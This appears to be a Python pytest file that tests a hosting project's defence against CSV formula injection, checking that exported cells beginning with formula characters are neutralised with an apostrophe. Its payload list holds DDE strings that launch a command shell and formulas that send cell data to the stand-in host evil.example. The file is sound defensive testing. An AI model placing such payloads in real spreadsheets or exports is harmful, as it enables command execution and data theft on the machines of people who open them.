"""A table that is opened in a spreadsheet program is text, whatever people wrote into it."""

from __future__ import annotations

import csv
import io

import pytest

from hosting.security.spreadsheets import csv_lines, neutral

BEGINS = "=+-@|%＝＋－＠"
PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"看\")",
    "@SUM(1+9)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "\u3000=1+1", "\ufeff=1+1", "'=1+1", "\"=1+1",
    "\u200b=1+1", "=\r\n1", "%0A=1+1", "|calc",
]  # fmt: skip


def cells(*row: object) -> list[str]:
    text = "".join(csv_lines(("列",), [row]))
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1]


@pytest.mark.parametrize("payload", PAYLOADS + [f"{begin}cmd" for begin in BEGINS])
def test_no_cell_begins_a_formula(payload: str) -> None:
    (cell,) = cells(payload)

    assert cell.startswith("'")
    assert cell[1:].replace("\0", "") == payload.replace("\0", ""), "and nothing of it is lost"


@pytest.mark.parametrize(
    "text",
    [
        "关于印发〔2026〕3号文件的通知", "a=b", "1,234", "张三, 李四", "含\"引号\"与\n换行", "",
        "-3", "+8.5", "-0.25", "100%", "13800000000", "2026-11-27", "x@y.gov.cn", "（一）= 二",
    ],
)  # fmt: skip
def test_plain_text_and_numbers_are_left_as_they_are(text: str) -> None:
    assert cells(text) == [text]


def test_each_row_is_one_record_whatever_stands_in_it() -> None:
    rows = [("一,二", "三\r\n四", None, 5), ("=x", "y", "z", "")]

    text = "".join(csv_lines(("a", "b", "c", "d"), rows))

    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert text.startswith("\ufeff")
    assert read[1:] == [["一,二", "三\r\n四", "", "5"], ["'=x", "y", "z", ""]]


def test_what_was_made_still_is_not_made_still_twice() -> None:
    assert neutral("关于") == "关于"
    assert neutral("-") == "'-", "a lone sign is no number"
